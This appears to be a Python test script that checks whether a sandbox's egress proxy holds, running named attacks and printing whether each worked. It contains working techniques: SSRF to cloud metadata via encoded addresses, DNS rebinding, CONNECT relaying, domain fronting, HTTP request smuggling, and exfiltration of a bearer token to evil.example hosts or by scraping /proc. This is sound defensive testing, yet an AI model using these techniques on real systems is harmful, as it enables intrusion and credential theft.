"""Attempts to reach what a box may not, and to get at what is put in for it on the way. As in
attacks.py, one function each: it returns if it has got what it wanted. All that are named run, and
each says on a line of its own what came of it.

Without the box the proxy checks nothing, the secret is in the environment, and every address of
outside.py can be reached.
"""

import glob
import hashlib
import os
import re
import socket
import ssl
import sys

ENV = os.environ
SECRET = b"TOP-SECRET"
TOKEN = ENV["TOKEN"]
PROXY = ENV["http_proxy"].split("://")[1].split(":")
METADATA = "169.254.169.254"


def want(found):
    if not found:
        raise AssertionError("nothing found")


def take(answer):
    if SECRET not in answer:
        raise AssertionError(answer[:90].decode("latin-1").replace("\r\n", " "))


def rest(stream, answers=1):
    whole, begin = b"", 0
    try:
        while SECRET not in whole and (more := stream.recv(4096)):
            whole += more
            # Servers keep their connections; what they say has a length.
            head, _, body = whole[begin:].partition(b"\r\n\r\n")
            length = re.search(rb"(?i)content-length: (\d+)", head)
            if length and len(body) >= int(length[1]):
                begin += len(head) + 4 + int(length[1])
                answers -= 1
                if answers == 0:
                    break
    except socket.timeout:
        pass
    return whole


def proxy():
    return socket.create_connection((PROXY[0], int(PROXY[1])), 5)


def say(text, answers=1):
    with proxy() as stream:
        stream.settimeout(3)
        stream.sendall(text.encode())
        return rest(stream, answers)


def get(url, headers="", host=None):
    host = host or url.split("://")[1].split("/")[0].rsplit("@", 1)[-1]
    return say(f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{headers}\r\n")


def direct(address, port, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as stream:
        stream.settimeout(3)
        stream.connect((address, port))
        stream.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        take(stream.recv(4096))


def tunnel(target, text):
    with proxy() as stream:
        stream.settimeout(3)
        stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = stream.recv(4096)
        if b" 200 " not in answer.split(b"\r\n")[0] or SECRET in answer:
            return take(answer)
        stream.sendall(text)
        take(rest(stream))


def allowed():
    """No attack: what is allowed works, or nothing here would prove anything."""
    want(b" 200 " in get("http://shop.example/"))


# Around the proxy.


def dns_udp():
    direct("192.0.2.53", 53, socket.SOCK_DGRAM)


def dns_tcp():
    direct("192.0.2.53", 53)


def dns_udp_ipv6():
    direct("2001:db8::1", 53, socket.SOCK_DGRAM)


def internet():
    direct("93.184.216.36", 80)


def internet_ipv6():
    direct("2001:db8::1", 80)


def metadata():
    direct(METADATA, 80)


def metadata_mapped():
    direct("::ffff:" + METADATA, 80)


def metadata_ipv6():
    direct("fd00:ec2::254", 80)


def private():
    direct("10.1.2.3", 80)


# By the proxy, to where it may not lead.


def host_not_allowed():
    take(get("http://evil.example/"))


def dns_by_proxy():
    """What is looked up goes out, too."""
    take(get("http://what-was-stolen.evil.example/"))


def metadata_by_proxy():
    take(get(f"http://{METADATA}/"))


def metadata_mapped_by_proxy():
    take(get(f"http://[::ffff:{METADATA}]/"))


def metadata_ipv6_by_proxy():
    take(get("http://[fd00:ec2::254]/"))


def metadata_as_number():
    take(get("http://2852039166/"))


def metadata_as_hex():
    take(get("http://0xa9fea9fe/"))


def metadata_by_name():
    take(get("http://inside.example/"))


def metadata_mapped_by_name():
    take(get("http://mapped.example/"))


def metadata_ipv6_by_name():
    take(get("http://v6.example/"))


def loopback_by_proxy():
    take(get("http://127.0.0.1/"))


def loopback_by_localhost():
    take(get("http://localhost/"))


def loopback_ipv6_by_proxy():
    take(get("http://[::1]/"))


def private_by_proxy():
    take(get("http://10.1.2.3/"))


def private_by_name():
    take(get("http://private.example/"))


def rebinding():
    """An allowed name that leads out, and then inside."""
    get("http://rebind.example/")
    take(get("http://rebind.example/"))


def connect_host():
    tunnel("evil.example:443", b"RELAY")


def connect_port():
    tunnel("tls.example:25", b"RELAY")


def connect_relay():
    """To an allowed host and port, but with another protocol than TLS."""
    tunnel("tls.example:443", b"RELAY")


def connect_metadata():
    tunnel(f"{METADATA}:80", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")


def fronting():
    """TLS for another host than the tunnel's."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(into, out, server_hostname="evil.example")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    tunnel("tls.example:443", out.read())


# By the proxy, with two meanings.


def host_header():
    take(get("http://shop.example/", host="evil.example"))


def host_twice():
    take(get("http://shop.example/", "Host: evil.example\r\n"))


def second_request():
    one = "GET http://shop.example/ HTTP/1.1\r\nHost: shop.example\r\n\r\n"
    take(say(one + "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", answers=2))


def second_request_elsewhere():
    one = "GET http://shop.example/ HTTP/1.1\r\nHost: shop.example\r\n\r\n"
    two = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    take(say(one + two, answers=2))


def smuggled():
    """Two lengths: who goes by one sees a body, who goes by the other another request."""
    hidden = "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    head = "POST http://shop.example/ HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 4\r\n"
    chunks = f"Transfer-Encoding: chunked\r\n\r\n{len(hidden):x}\r\n{hidden}\r\n0\r\n\r\n"
    take(say(head + chunks, answers=2))


def user_in_url():
    take(get("http://shop.example@evil.example/"))


def upgraded():
    with proxy() as stream:
        stream.settimeout(3)
        stream.sendall(b"GET http://shop.example/ HTTP/1.1\r\nHost: shop.example\r\n"
                       b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
        want(b" 101 " in stream.recv(4096))
        stream.sendall(b"anything")
        take(rest(stream))


# The secret that is for shop.example.


def is_value(text):
    """Whether the value is in it. Its hash alone is known here."""
    words = re.findall(rb"v4lue-[0-9a-z-]+", text)
    return any(hashlib.sha256(word).hexdigest() == ENV["P_SHA"] for word in words)


def bearer():
    return f"Authorization: Bearer {TOKEN}\r\n"


def secret_to_another_host():
    take(get("http://other.example/", bearer()))


def secret_in_url():
    take(get(f"http://other.example/?{TOKEN}"))


def secret_by_redirect():
    answer = get("http://shop.example/away", bearer())
    place = re.search(rb"(?i)location: (\S+)", answer)
    take(get(place[1].decode(), bearer()))


def secret_to_another_name():
    """To the host it is for, which is told that it is another."""
    take(get("http://shop.example/", bearer(), host="other.example"))


def secret_reflected():
    want(is_value(get("http://shop.example/", bearer())))


def secret_in_error():
    want(is_value(get("http://shop.example:81/", bearer())))


def secret_in_env():
    want(is_value(str(dict(ENV)).encode()))


def secret_in_proc():
    found = b""
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                found += file.read()
        except OSError:
            pass
    want(is_value(found))


def secret_in_files():
    for folder, folders, files in os.walk(ENV["P_SCRATCH"]):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("usr", "proc")]
        for name in files:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                with open(path, "rb") as file:
                    if is_value(file.read()):
                        return
    raise AssertionError("in no file")


for name in sys.argv[1:]:
    try:
        globals()[name]()
        print(name, "worked", flush=True)
    except (OSError, AssertionError, ValueError, TypeError) as error:
        print(name, "failed:", str(error).replace("\n", " "), flush=True)
